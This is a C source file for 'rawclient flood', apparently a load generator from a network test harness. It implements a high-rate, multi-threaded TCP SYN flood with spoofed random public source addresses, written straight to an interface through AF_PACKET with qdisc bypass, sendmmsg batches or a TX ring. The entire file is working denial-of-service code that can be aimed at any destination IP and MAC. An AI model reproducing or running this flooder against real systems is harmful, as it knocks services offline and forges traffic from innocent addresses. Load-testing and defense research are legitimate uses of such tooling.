// SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
/*
 * rawclient: the part of the raw-packet client that must be fast, a SYN
 * flood with spoofed random source addresses, ports and ISNs, written
 * straight to an interface with AF_PACKET (PACKET_QDISC_BYPASS, sendmmsg
 * batches, or a PACKET_TX_RING). The scripted single-connection scenarios
 * are in rawclient.py. No dependency beyond libc.
 *
 * usage: rawclient flood --iface IF --dst-ip A.B.C.D --dst-mac MAC
 *                        [--port N] [--seconds S] [--threads N]
 *                        [--mode mmsg|ring] [--batch N] [--seed N]
 *                        [--exclude A.B.C.D/LEN]...
 *
 * Sources are random unicast IPv4 addresses outside 0/8, 10.77.0.0/16
 * (the test topology), 127/8, 169.254/16, 224/3 and any --exclude. Each
 * SYN carries an MSS option and complete IPv4 and TCP checksums (AF_XDP
 * copy mode has no checksum offload). Prints one JSON line:
 *   {"sent":N,"errors":E,"seconds":T,"pps":R,"threads":K,"mode":"..."}
 * sent counts frames the kernel took; errors, sends it refused (ENOBUFS).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>
#include <pthread.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define FRAME_LEN 58 /* eth 14 + ip 20 + tcp 20 + mss option 4 */
#define BATCH_MAX 1024
#define EXCL_MAX 16

struct excl {
	uint32_t net, mask; /* host order */
};

static struct {
	int ifindex;
	uint8_t src_mac[6], dst_mac[6];
	uint32_t dst_ip; /* network order */
	uint16_t port;
	double seconds;
	int threads;
	int batch;
	bool ring;
	uint64_t seed;
	struct excl excl[EXCL_MAX];
	int nexcl;
} opt = { .port = 10000, .seconds = 10, .threads = 1, .batch = 256, .seed = 1 };

struct worker {
	pthread_t th;
	int id;
	uint64_t sent, errors;
	const char *err;
};

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static uint64_t xs_next(uint64_t *s)
{
	uint64_t x = *s;

	x ^= x >> 12;
	x ^= x << 25;
	x ^= x >> 27;
	*s = x;
	return x * 0x2545F4914F6CDD1Dull;
}

static bool excluded(uint32_t a)
{
	int i;

	if ((a >> 24) == 0 || (a >> 24) == 127 || (a >> 16) == 0xa9fe ||
	    (a >> 29) == 7 || (a >> 16) == 0x0a4d /* 10.77/16 */)
		return true;
	for (i = 0; i < opt.nexcl; i++)
		if ((a & opt.excl[i].mask) == opt.excl[i].net)
			return true;
	return false;
}

static uint32_t sum16(const void *p, size_t n, uint32_t s)
{
	const uint8_t *b = p;
	size_t i;

	for (i = 0; i + 1 < n; i += 2)
		s += (uint32_t)(b[i] << 8 | b[i + 1]);
	if (n & 1)
		s += (uint32_t)(b[n - 1] << 8);
	return s;
}

static uint16_t fold(uint32_t s)
{
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

/* One SYN from a random source into f (FRAME_LEN bytes). */
static void make_syn(uint8_t *f, uint64_t *rng)
{
	uint64_t r = xs_next(rng);
	uint32_t src, isn = (uint32_t)(r >> 32), s;
	uint16_t sport = (uint16_t)(1024 + (r & 0xffff) % 64512), c;
	uint8_t *ip = f + 14, *tcp = f + 34;

	do
		src = (uint32_t)xs_next(rng);
	while (excluded(src));
	memcpy(f, opt.dst_mac, 6);
	memcpy(f + 6, opt.src_mac, 6);
	f[12] = 0x08;
	f[13] = 0x00;
	memset(ip, 0, 20);
	ip[0] = 0x45;
	ip[3] = 44; /* total length 20 + 24 */
	ip[4] = (uint8_t)(r >> 16);
	ip[5] = (uint8_t)(r >> 24);
	ip[6] = 0x40; /* DF */
	ip[8] = 64;
	ip[9] = 6;
	src = htonl(src);
	memcpy(ip + 12, &src, 4);
	memcpy(ip + 16, &opt.dst_ip, 4);
	c = fold(sum16(ip, 20, 0));
	ip[10] = (uint8_t)(c >> 8);
	ip[11] = (uint8_t)c;
	memset(tcp, 0, 24);
	tcp[0] = (uint8_t)(sport >> 8);
	tcp[1] = (uint8_t)sport;
	tcp[2] = (uint8_t)(opt.port >> 8);
	tcp[3] = (uint8_t)opt.port;
	tcp[4] = (uint8_t)(isn >> 24);
	tcp[5] = (uint8_t)(isn >> 16);
	tcp[6] = (uint8_t)(isn >> 8);
	tcp[7] = (uint8_t)isn;
	tcp[12] = 6 << 4; /* 24 bytes */
	tcp[13] = 0x02; /* SYN */
	tcp[14] = 0xfa; /* window 64240 */
	tcp[15] = 0xf0;
	tcp[20] = 2; /* MSS 1460 */
	tcp[21] = 4;
	tcp[22] = 0x05;
	tcp[23] = 0xb4;
	s = sum16(ip + 12, 8, 0) + 6 + 24; /* pseudo header */
	c = fold(sum16(tcp, 24, s));
	tcp[16] = (uint8_t)(c >> 8);
	tcp[17] = (uint8_t)c;
}

static int open_socket(void)
{
	struct sockaddr_ll sll;
	int fd, one = 1, sndbuf = 4 << 20;

	fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -1;
	memset(&sll, 0, sizeof(sll));
	sll.sll_family = AF_PACKET;
	sll.sll_ifindex = opt.ifindex;
	sll.sll_protocol = 0; /* send only: receive nothing */
	if (bind(fd, (struct sockaddr *)&sll, sizeof(sll)) < 0 ||
	    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one)) <
		    0) {
		close(fd);
		return -1;
	}
	setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &sndbuf, sizeof(sndbuf));
	return fd;
}

static void run_mmsg(struct worker *w, int fd, uint64_t *rng, double end)
{
	static __thread uint8_t frames[BATCH_MAX][64];
	struct mmsghdr msgs[BATCH_MAX];
	struct iovec iov[BATCH_MAX];
	int i, n = opt.batch, done, r;

	memset(msgs, 0, sizeof(msgs));
	for (i = 0; i < n; i++) {
		iov[i].iov_base = frames[i];
		iov[i].iov_len = FRAME_LEN;
		msgs[i].msg_hdr.msg_iov = &iov[i];
		msgs[i].msg_hdr.msg_iovlen = 1;
	}
	while (now_s() < end) {
		for (i = 0; i < n; i++)
			make_syn(frames[i], rng);
		for (done = 0; done < n;) {
			r = sendmmsg(fd, msgs + done, (unsigned)(n - done), 0);
			if (r > 0) {
				w->sent += (uint64_t)r;
				done += r;
				continue;
			}
			if (r < 0 && errno != ENOBUFS && errno != EAGAIN &&
			    errno != EINTR) {
				w->err = strerror(errno);
				return;
			}
			/* The veth's peer queue was full: that frame is
			 * lost, go on with the next. */
			w->errors++;
			done++;
		}
	}
}

static void run_ring(struct worker *w, int fd, uint64_t *rng, double end)
{
	struct tpacket_req req;
	int ver = TPACKET_V2, i;
	unsigned int fsize = 128, nframes = 4096, cur = 0;
	uint8_t *ring;

	if (setsockopt(fd, SOL_PACKET, PACKET_VERSION, &ver, sizeof(ver)) < 0) {
		w->err = "PACKET_VERSION";
		return;
	}
	memset(&req, 0, sizeof(req));
	req.tp_block_size = 4096 * 16;
	req.tp_frame_size = fsize;
	req.tp_block_nr = nframes * fsize / req.tp_block_size;
	req.tp_frame_nr = nframes;
	if (setsockopt(fd, SOL_PACKET, PACKET_TX_RING, &req, sizeof(req)) < 0) {
		w->err = "PACKET_TX_RING";
		return;
	}
	ring = mmap(NULL, (size_t)req.tp_block_size * req.tp_block_nr,
		    PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (ring == MAP_FAILED) {
		w->err = "mmap";
		return;
	}
	while (now_s() < end) {
		int queued = 0;

		for (i = 0; i < opt.batch; i++) {
			struct tpacket2_hdr *h =
				(void *)(ring + (size_t)cur * fsize);
			volatile uint32_t *status = &h->tp_status;

			if (*status != TP_STATUS_AVAILABLE) {
				if (*status == TP_STATUS_WRONG_FORMAT) {
					w->err = "TP_STATUS_WRONG_FORMAT";
					return;
				}
				break; /* not sent yet: flush first */
			}
			make_syn((uint8_t *)h + TPACKET2_HDRLEN -
					 sizeof(struct sockaddr_ll),
				 rng);
			h->tp_len = FRAME_LEN;
			__atomic_store_n(&h->tp_status, TP_STATUS_SEND_REQUEST,
					 __ATOMIC_RELEASE);
			cur = (cur + 1) % nframes;
			queued++;
		}
		if (send(fd, NULL, 0, 0) < 0 && errno != ENOBUFS &&
		    errno != EAGAIN) {
			w->err = strerror(errno);
			return;
		}
		w->sent += (uint64_t)queued;
	}
	/* Wait for the ring to drain, so sent is what the kernel took. */
	send(fd, NULL, 0, 0);
	munmap(ring, (size_t)req.tp_block_size * req.tp_block_nr);
}

static double g_end;

static void *worker_main(void *arg)
{
	struct worker *w = arg;
	uint64_t rng = opt.seed * 0x9e3779b97f4a7c15ull + (uint64_t)w->id + 1;
	int fd = open_socket();

	if (fd < 0) {
		w->err = strerror(errno);
		return NULL;
	}
	if (!rng)
		rng = 1;
	if (opt.ring)
		run_ring(w, fd, &rng, g_end);
	else
		run_mmsg(w, fd, &rng, g_end);
	close(fd);
	return NULL;
}

static int parse_mac(const char *s, uint8_t m[6])
{
	unsigned int v[6];
	int i;

	if (sscanf(s, "%x:%x:%x:%x:%x:%x", &v[0], &v[1], &v[2], &v[3], &v[4],
		   &v[5]) != 6)
		return -1;
	for (i = 0; i < 6; i++)
		m[i] = (uint8_t)v[i];
	return 0;
}

static int if_mac(const char *name, uint8_t m[6])
{
	char path[128];
	FILE *f;
	char buf[64];
	int rc = -1;

	snprintf(path, sizeof(path), "/sys/class/net/%s/address", name);
	f = fopen(path, "r");
	if (!f)
		return -1;
	if (fgets(buf, sizeof(buf), f))
		rc = parse_mac(buf, m);
	fclose(f);
	return rc;
}

static void usage(void)
{
	fprintf(stderr,
		"usage: rawclient flood --iface IF --dst-ip A.B.C.D --dst-mac MAC\n"
		"                       [--port N] [--seconds S] [--threads N]\n"
		"                       [--mode mmsg|ring] [--batch N] [--seed N]\n"
		"                       [--exclude A.B.C.D/LEN]...\n");
}

int main(int argc, char **argv)
{
	static const struct option lo[] = {
		{ "iface", required_argument, NULL, 'i' },
		{ "dst-ip", required_argument, NULL, 'd' },
		{ "dst-mac", required_argument, NULL, 'm' },
		{ "port", required_argument, NULL, 'p' },
		{ "seconds", required_argument, NULL, 's' },
		{ "threads", required_argument, NULL, 't' },
		{ "mode", required_argument, NULL, 'M' },
		{ "batch", required_argument, NULL, 'b' },
		{ "seed", required_argument, NULL, 'S' },
		{ "exclude", required_argument, NULL, 'x' },
		{ NULL, 0, NULL, 0 },
	};
	const char *iface = NULL;
	struct worker *w;
	struct in_addr a;
	uint64_t sent = 0, errors = 0;
	double t0, t1;
	int c, i, len;
	char *slash;
	bool have_dst = false, have_mac = false;

	if (argc < 2 || strcmp(argv[1], "flood")) {
		usage();
		return 2;
	}
	optind = 2;
	while ((c = getopt_long(argc, argv, "", lo, NULL)) != -1) {
		switch (c) {
		case 'i':
			iface = optarg;
			break;
		case 'd':
			if (inet_pton(AF_INET, optarg, &a) != 1)
				goto bad;
			opt.dst_ip = a.s_addr;
			have_dst = true;
			break;
		case 'm':
			if (parse_mac(optarg, opt.dst_mac))
				goto bad;
			have_mac = true;
			break;
		case 'p':
			opt.port = (uint16_t)atoi(optarg);
			break;
		case 's':
			opt.seconds = atof(optarg);
			break;
		case 't':
			opt.threads = atoi(optarg);
			break;
		case 'M':
			if (!strcmp(optarg, "ring"))
				opt.ring = true;
			else if (strcmp(optarg, "mmsg"))
				goto bad;
			break;
		case 'b':
			opt.batch = atoi(optarg);
			break;
		case 'S':
			opt.seed = strtoull(optarg, NULL, 0);
			break;
		case 'x':
			if (opt.nexcl == EXCL_MAX)
				goto bad;
			slash = strchr(optarg, '/');
			len = slash ? atoi(slash + 1) : 32;
			if (slash)
				*slash = 0;
			if (inet_pton(AF_INET, optarg, &a) != 1 || len < 0 ||
			    len > 32)
				goto bad;
			opt.excl[opt.nexcl].mask = len ? ~0u << (32 - len) : 0;
			opt.excl[opt.nexcl].net = ntohl(a.s_addr) &
						  opt.excl[opt.nexcl].mask;
			opt.nexcl++;
			break;
		default:
			goto bad;
		}
	}
	if (!iface || !have_dst || !have_mac || opt.threads < 1 ||
	    opt.threads > 64 || opt.batch < 1 || opt.batch > BATCH_MAX ||
	    opt.seconds <= 0)
		goto bad;
	opt.ifindex = (int)if_nametoindex(iface);
	if (!opt.ifindex || if_mac(iface, opt.src_mac)) {
		fprintf(stderr, "rawclient: no interface %s\n", iface);
		return 1;
	}
	w = calloc((size_t)opt.threads, sizeof(*w));
	if (!w)
		return 1;
	t0 = now_s();
	g_end = t0 + opt.seconds;
	for (i = 0; i < opt.threads; i++) {
		w[i].id = i;
		pthread_create(&w[i].th, NULL, worker_main, &w[i]);
	}
	for (i = 0; i < opt.threads; i++) {
		pthread_join(w[i].th, NULL);
		if (w[i].err) {
			fprintf(stderr, "rawclient: thread %d: %s\n", i,
				w[i].err);
			return 1;
		}
		sent += w[i].sent;
		errors += w[i].errors;
	}
	t1 = now_s();
	printf("{\"sent\":%" PRIu64 ",\"errors\":%" PRIu64
	       ",\"seconds\":%.3f,\"pps\":%.0f,\"threads\":%d,\"mode\":\"%s\"}\n",
	       sent, errors, t1 - t0, (double)sent / (t1 - t0), opt.threads,
	       opt.ring ? "ring" : "mmsg");
	return 0;
bad:
	usage();
	return 2;
}
